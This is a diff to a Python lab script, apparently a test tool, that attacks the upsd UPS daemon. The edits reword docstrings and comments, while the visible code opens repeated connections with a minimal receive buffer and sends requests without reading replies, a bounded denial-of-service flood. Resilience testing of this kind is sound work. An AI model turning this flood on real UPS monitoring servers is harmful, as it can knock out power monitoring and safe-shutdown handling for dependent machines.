@@ -2,9 +2,9 @@
 # GNU General Public License v3.0+ (see COPYING or https://www.gnu.org/licenses/gpl-3.0.txt)
 # SPDX-License-Identifier: GPL-3.0-or-later
 
-"""What a compromised machine does to upsd: it asks again and again, on several connections, and never reads an answer.
+"""Attack upsd as a compromised machine could: send requests on several connections and never read an answer.
 
-Bounded: it ends by itself after SECONDS, and makes no more than LIMIT connections. The lab runs it on a machine by its text, so it
+The attack ends after SECONDS and makes at most LIMIT connections. The lab passes this file's text to a machine's Python, so it
 imports the standard library only: python3 - HOST PORT SECONDS CONNECTIONS.
 """
 
@@ -24,25 +24,25 @@ SHORT = b"\n" * (BUFFER - 1)
 
 
 class Attack:
-    """The attack: each thread has one connection after another."""
+    """The attack. Each thread opens one connection after another."""
 
     def __init__(self, host: str, port: int, seconds: float) -> None:
-        """Begin to count."""
+        """Start the clock."""
         self.place, self.end = (host, port), time.monotonic() + seconds
         self.left = LIMIT
         self.lock = threading.Lock()
 
     def is_active(self) -> bool:
-        """Return whether there is time."""
+        """Return whether neither the time nor the connections are used up."""
         return time.monotonic() < self.end and self.left > 0
 
     def keep_connecting(self) -> None:
-        """Connect again whenever upsd has hung up."""
+        """Connect again whenever upsd has closed the connection."""
         while self.is_active():
             with self.lock:
                 self.left -= 1
             with contextlib.suppress(OSError), socket.socket() as connection:
-                # the smallest there is: the other side is full the sooner
+                # the smallest buffer, so that upsd's side fills up sooner
                 connection.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, 1)
                 connection.settimeout(2.0)
                 connection.connect(self.place)
@@ -50,7 +50,7 @@ class Attack:
             time.sleep(0.02)
 
     def flood_connection(self, connection: socket.socket) -> None:
-        """Send, and read nothing, until the other side hangs up."""
+        """Send requests without reading until upsd closes the connection."""
         connection.settimeout(0.2)
         connection.sendall(LONG)
         while self.is_active():
@@ -60,7 +60,7 @@ class Attack:
 
 
 def main() -> None:
-    """Attack HOST PORT for SECONDS by so many CONNECTIONS at a time."""
+    """Run the attack that the command line describes."""
     host, port, seconds, connections = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
     attack = Attack(host, port, min(seconds, 600.0))
     for _number in range(min(connections, 100)):
